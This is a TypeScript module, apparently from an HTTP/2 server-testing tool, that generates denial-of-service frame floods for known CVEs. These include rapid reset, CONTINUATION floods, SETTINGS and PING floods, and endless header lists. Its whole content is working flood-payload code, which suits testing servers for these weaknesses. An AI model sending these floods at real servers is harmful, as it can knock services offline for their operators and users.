// Floods of HTTP/2 frames, each cheap to send: rapid reset (CVE-2023-44487), CONTINUATION (CVE-2024-27983), and the older
// ones (CVE-2019-9512 to 9518).
import type { Material, Shape } from '../attack.ts';
import { common, pseudo, refusedGet, streams } from './print.ts';
import { block, END_HEADERS, END_STREAM, FRAME, frame, indexed, opening, setting, uint32 } from './wire.ts';

const COUNT = 2000;

/** `each` is written once for each of many streams. */
const flood =
  (each: (m: Material, stream: number) => readonly Buffer[], count = COUNT): Shape =>
  (m) => {
    const frames = streams(count).flatMap((stream) => each(m, stream));
    // In some pieces, so that what comes back comes between them.
    const size = Math.ceil(frames.length / 20);
    const pieces = Array.from({ length: 20 }, (_, i) =>
      Buffer.concat(frames.slice(i * size, (i + 1) * size)),
    );
    return [opening(), ...pieces];
  };

export const FLOODS: Readonly<Record<string, Shape>> = {
  'rapid reset': flood((m, stream) => [refusedGet(m, stream), frame(FRAME.rstStream, 0, stream, uint32(8))]),
  'rapid reset by error': flood((m, stream) => [
    refusedGet(m, stream),
    frame(FRAME.windowUpdate, 0, stream, uint32(0)),
  ]),
  'rapid reset of open requests': flood((m, stream) => [
    refusedGet(m, stream, END_HEADERS),
    frame(FRAME.rstStream, 0, stream, uint32(8)),
  ]),
  'more streams than may be open': flood((m, stream) => [refusedGet(m, stream, END_HEADERS)], 600),
  CONTINUATION: flood((m, stream) => [
    stream === 1
      ? refusedGet(m, 1, END_STREAM)
      : frame(FRAME.continuation, 0, 1, block([['x-a', 'b'.repeat(500)]])),
  ]),
  'empty CONTINUATION': flood((m, stream) => [
    stream === 1 ? refusedGet(m, 1, END_STREAM) : frame(FRAME.continuation, 0, 1),
  ]),
  SETTINGS: flood(() => [frame(FRAME.settings, 0, 0, setting(3, 100))]),
  'answers to SETTINGS': flood(() => [frame(FRAME.settings, 1, 0)]),
  PING: flood(() => [frame(FRAME.ping, 0, 0, Buffer.alloc(8))]),
  PRIORITY: flood((_, stream) => [
    frame(FRAME.priority, 0, stream, Buffer.concat([uint32(stream > 1 ? stream - 2 : 0), Buffer.of(1)])),
  ]),
  'empty DATA': flood((m, stream) => [
    stream === 1 ? refusedGet(m, 1, END_HEADERS) : frame(FRAME.data, 0, 1),
  ]),
  'windows by one': flood(() => [frame(FRAME.windowUpdate, 0, 0, uint32(1))]),
  'frames of no known type': flood((m) => [frame(0x20 + m.random.below(200), 0, 0, m.random.bytes(30))]),
  'header lists of no end': flood(
    (m, stream) => [
      frame(
        FRAME.headers,
        END_HEADERS | END_STREAM,
        stream,
        Buffer.concat([
          block([...pseudo('GET', m.refused), ...common(m)]),
          indexed(['x-a', 'b'.repeat(3900)]),
          Buffer.alloc(2000, 0x80 | 62),
        ]),
      ),
    ],
    100,
  ),
  'bodies that trickle': (m) => [
    opening(),
    ...streams(100).map((stream) => refusedGet(m, stream, END_HEADERS)),
    ...Array.from({ length: 20 }, (_, i) => [frame(FRAME.data, 0, 2 * i + 1, Buffer.from('{')), 20]).flat(),
  ],
};
